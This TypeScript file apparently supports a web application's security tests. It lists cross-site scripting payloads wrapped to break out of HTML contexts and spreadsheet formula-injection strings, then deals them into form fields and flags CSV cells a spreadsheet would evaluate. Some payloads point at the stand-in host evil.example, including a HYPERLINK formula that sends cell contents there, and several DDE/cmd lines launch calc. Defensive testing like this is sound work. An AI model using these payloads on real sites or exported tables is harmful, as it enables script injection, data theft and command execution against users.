// What people could write so that a page or a table runs it: the texts of the HTTP suite (server/tests/http/texts.rs), with
// a canary where that one has a dialog.

import type { Luck } from './run';

/** What runs says so by calling this; see `Spy`. */
const CORES = [
  '<script>mcRan()</script>',
  '<img src=x onerror=mcRan()>',
  '<svg onload=mcRan()>',
  '<svg><animate onbegin=mcRan() attributeName=x dur=1s>',
  '<svg><script>mcRan&#40;)</script>',
  '<body onload=mcRan()>',
  "<iframe srcdoc='<script>parent.mcRan()</script>'>",
  '<iframe src=javascript:parent.mcRan()>',
  '<object data=data:text/html,<script>mcRan()</script>>',
  '<embed src=//evil.example/x>',
  '<a href=javascript:mcRan()>x</a>',
  "<a href='java\tscript:mcRan()'>x</a>",
  '<form action=//evil.example><button>x</button></form>',
  '<button formaction=javascript:mcRan()>x',
  '<input autofocus onfocus=mcRan()>',
  '<details open ontoggle=mcRan()>',
  '<video><source onerror=mcRan()>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=mcRan()>',
  '<base href=//evil.example/>',
  '<link rel=import href=//evil.example>',
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<style>@import '//evil.example'</style>",
  '<noscript><p title="</noscript><img src=x onerror=mcRan()>">',
  '<template><script>mcRan()</script></template>',
  '<!--><img src=x onerror=mcRan()>-->',
  '<![CDATA[><script>mcRan()</script>]]>',
  '<x onclick=mcRan() tabindex=0>',
  'javascript:mcRan()',
  'data:text/html,<script>mcRan()</script>',
  "{{constructor.constructor('mcRan()')()}}",
  '${mcRan()}',
  '\\u003cscript\\u003emcRan()\\u003c/script\\u003e',
  '&lt;script&gt;mcRan()&lt;/script&gt;',
  '&#x3c;script&#x3e;mcRan()',
  '%3Cscript%3EmcRan()%3C/script%3E',
  '\u2028mcRan()\u2029',
  '＜script＞mcRan()＜/script＞',
  '<scr\u200bipt>mcRan()</scr\u200bipt>',
  '<ScRiPt sRc=//evil.example></sCrIpT>',
  '<marquee onstart=mcRan()>',
  '\u202e<script>mcRan()</script>',
];

/** Out of text, of an attribute, of a script, of a comment and of what is read raw. */
const WRAPS = ['{}', '">{}', "'>{}", '</script>{}', '";{}//', '--></title></textarea></style>{}'];

const FORMULAS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"看")',
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
  'SUM(A1:A9)',
  'DDE("cmd";"/C calc";"x")',
  "2+5+cmd|' /C calc'!A0",
  'IMAGE("http://evil.example/x.png")',
];

const LEADS = ['=', '+', '-', '@', '＝', ' =', '\u00a0=', '\ufeff='];

/** What breaks out of text, attribute, address, comment, script or style. */
export const hostile = CORES.flatMap((core) => WRAPS.map((wrap) => wrap.replace('{}', () => core)));

/** What a program for tables takes for something to work out. */
export const formulas = [
  ...LEADS.flatMap((lead) => FORMULAS.map((core) => lead + core)),
  ...['\t=1+1', '\r=1+1', '\n=1+1', '"=1+1', ',=1+1', ';=1+1'],
];

/** A text in a field, and whether it was met again, as words. */
export interface Dealt {
  place: string;
  text: string;
  shown: boolean;
}

/** The texts of a run, dealt to the fields that there are until each was in one of them. */
export class Deck {
  readonly dealt: Dealt[] = [];
  private rest: string[] = [];
  private readonly fresh: Set<string>;

  private constructor(private readonly texts: string[]) {
    this.fresh = new Set(texts);
  }

  /** So many of each kind, in an order that luck chooses. */
  static of(luck: Luck, most: { hostile: number; formulas: number }): Deck {
    const draw = (all: string[], many: number): string[] => {
      const left = [...all];
      return Array.from({ length: Math.min(many, all.length) }, () => left.splice(luck.below(left.length), 1)[0] ?? '');
    };
    const texts = [...draw(hostile, most.hostile), ...draw(formulas, most.formulas)];
    return new Deck(draw(texts, texts.length));
  }

  /** How many were in no field yet. */
  get left(): number {
    return this.fresh.size;
  }

  get size(): number {
    return this.texts.length;
  }

  /** The next that fits into a field of `most` characters, with a mark by which it is told apart. `line`: without what a field of one line leaves out. */
  deal(place: string, { most = 1_000, line = false } = {}): string {
    const mark = `·${this.dealt.length}·`;
    const fits = (text: string): boolean => text.length + mark.length <= most;
    let at = this.rest.findIndex(fits);
    if (at < 0) {
      // What was dealt comes again, after what was not.
      this.rest = [...this.rest, ...this.texts];
      at = this.rest.findIndex(fits);
    }
    const [core = ''] = this.rest.splice(at, 1);
    this.fresh.delete(core);
    const text = (line ? core.replaceAll(/\p{Cc}/gu, '') : core) + mark;
    this.dealt.push({ place, text, shown: false });
    return text;
  }
}

/** Without the spaces that a page may lay otherwise. */
export function squeezed(text: string): string {
  return text.replaceAll(/\s/g, '');
}

/** A table as a program reads it. */
export function rows(csv: string): string[][] {
  const all: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < csv.length; at += 1) {
    const sign = csv.charAt(at);
    if (sign === '"' && quoted && csv.charAt(at + 1) === '"') {
      cell += '"';
      at += 1;
    } else if (sign === '"') {
      quoted = !quoted;
    } else if (sign === ',' && !quoted) {
      row.push(cell);
      cell = '';
    } else if (sign === '\n' && !quoted) {
      row.push(cell);
      all.push(row);
      [row, cell] = [[], ''];
    } else if (sign !== '\r' || quoted || csv.charAt(at + 1) !== '\n') {
      cell += sign;
    }
  }
  return all;
}

/** Whether a program for tables would work it out: by its first sign, behind whatever such programs pass over. */
export function isLive(cell: string): boolean {
  return /^[\s\ufeff]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r]/.test(cell);
}
